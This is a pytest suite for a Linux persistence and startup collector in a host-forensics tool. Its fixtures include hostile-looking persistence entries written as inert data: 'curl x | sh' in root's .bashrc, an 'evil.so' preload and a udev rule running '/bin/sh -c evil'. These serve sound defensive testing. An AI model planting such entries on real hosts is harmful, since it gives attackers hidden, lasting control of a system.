import hashlib
import os

import pytest
from procfs import run

from hauberk.assets.persistence_startup import COLLECTOR
from hauberk.host.live import LiveHost
from hauberk.host.memory import DictHost, Node


def found(files, **kw):
    rows, problems = run(COLLECTOR, DictHost(files, **kw))
    return {(r.kind, r.path, r.command): r for r in rows}, problems


def test_whole_files_with_hash_and_mode():
    rows, problems = found(
        {
            "/etc/rc.local": Node("#!/bin/sh\n/evil\n", mode=0o755, uid=0, mtime_ns=7),
            "/etc/profile.d/x.sh": "export A=1\n",
            "/etc/profile.d/README": "text",
            "/etc/update-motd.d/10-x": Node("#!/bin/sh\n", mode=0o755),
            "/etc/network/if-up.d/off": Node("#!/bin/sh\n", mode=0o644),
        }
    )
    assert problems == []
    rc = rows["rc_local", "/etc/rc.local", ""]
    assert (rc.enabled, rc.mode, rc.mtime_ns) == (True, "0755", 7)
    assert rc.sha256 == hashlib.sha256(b"#!/bin/sh\n/evil\n").hexdigest()
    assert {kind for kind, _, _ in rows} == {"rc_local", "profile", "motd", "network_hook"}
    assert not rows["network_hook", "/etc/network/if-up.d/off", ""].enabled


def test_rc_local_without_the_bit_does_not_run():
    rows, _ = found({"/etc/rc.local": "x"})
    assert not rows["rc_local", "/etc/rc.local", ""].enabled


def test_lines():
    rows, _ = found(
        {
            "/etc/ld.so.preload": "# c\n/lib/evil.so /lib/b.so:/lib/c.so\n",
            "/etc/modules-load.d/a.conf": "kvm\n; c\n# c\nloop max_loop=8\n",
            "/etc/udev/rules.d/99.rules": 'ACTION=="add", RUN+="/bin/sh -c evil", PROGRAM=="/p"\n',
            "/usr/lib/udev/rules.d/99.rules": 'RUN+="/shadowed"\n',
            "/etc/apt/apt.conf.d/50x": 'DPkg::Post-Invoke { "touch /x"; };\nAPT::Get "1";\n',
        }
    )
    assert {(kind, command) for kind, _, command in rows} == {
        ("preload", "/lib/evil.so"), ("preload", "/lib/b.so"), ("preload", "/lib/c.so"),
        ("module", "kvm"), ("module", "loop max_loop=8"),
        ("udev", "/bin/sh -c evil"), ("udev", "/p"), ("apt_hook", "touch /x"),
    }  # fmt: skip
    assert rows["preload", "/etc/ld.so.preload", "/lib/evil.so"].line == 2


def test_users():
    rows, _ = found(
        {
            "/etc/passwd": "root:x:0:0::/root:/bin/sh\nbob:x:1000:1000::/home/bob:/bin/sh\n",
            "/root/.bashrc": "curl x | sh\n",
            "/home/bob/.zshrc": Node("x", uid=1000),
            "/home/bob/.config/autostart/e.desktop": "[Desktop Entry]\nName=E\nExec=/e -x\n",
            "/etc/xdg/autostart/off.desktop": "[Desktop Entry]\nExec=/o\nHidden=true\n",
        }
    )
    assert rows["shell_rc", "/root/.bashrc", ""].user == "root"
    assert rows["shell_rc", "/home/bob/.zshrc", ""].uid == 1000
    entry = rows["autostart", "/home/bob/.config/autostart/e.desktop", "/e -x"]
    assert (entry.name, entry.user, entry.enabled) == ("E", "bob", True)
    assert not rows["autostart", "/etc/xdg/autostart/off.desktop", "/o"].enabled


@pytest.mark.parametrize(
    "raw",
    [b"\xff" * 100_000, b"Pre-Invoke" * 100_000, b'Post-Invoke "' * 60_000, b"Pre-Invoke" + b" " * 900_000,
     b'RUN+="' * 100_000, b"\x00" * 100, b"[" * 10_000, b"a" * 2_000_000],
)  # fmt: skip
def test_hostile(raw):
    rows, _ = found(
        {
            "/etc/passwd": "root:x:0:0::/root:/bin/sh\n",
            "/etc/rc.local": raw,
            "/etc/ld.so.preload": raw,
            "/etc/apt/apt.conf.d/x": raw,
            "/etc/udev/rules.d/x.rules": raw,
            "/etc/modules": raw,
            "/root/.config/autostart/x.desktop": raw,
        }
    )
    assert len(rows) < 60_000
    assert all(len(command) <= 8192 for _, _, command in rows)


def test_bounded(monkeypatch):
    monkeypatch.setattr("hauberk.assets.persistence_startup.MAX_ENTRIES", 5)
    rows, problems = found({"/etc/modules": "".join(f"m{n}\n" for n in range(50))})
    assert len(rows) == 5
    assert len(problems) == 1


def test_refused_is_a_problem():
    rows, problems = found({"/etc/rc.local": "x"}, denied=["/etc/rc.local", "/etc/profile.d"])
    assert rows == {}
    assert {p.where for p in problems} == {"/etc/rc.local", "/etc/profile.d"}


def test_nothing_there():
    assert found({"/etc/x": ""}) == ({}, [])


def test_live_shell_profile_hash():
    rows, _ = run(COLLECTOR, LiveHost())
    by_path = {r.path: r for r in rows if r.kind == "profile"}
    for path in ("/etc/profile", "/etc/bash.bashrc"):
        if os.path.isfile(path):
            with open(path, "rb") as file:
                assert by_path[path].sha256 == hashlib.sha256(file.read()).hexdigest()
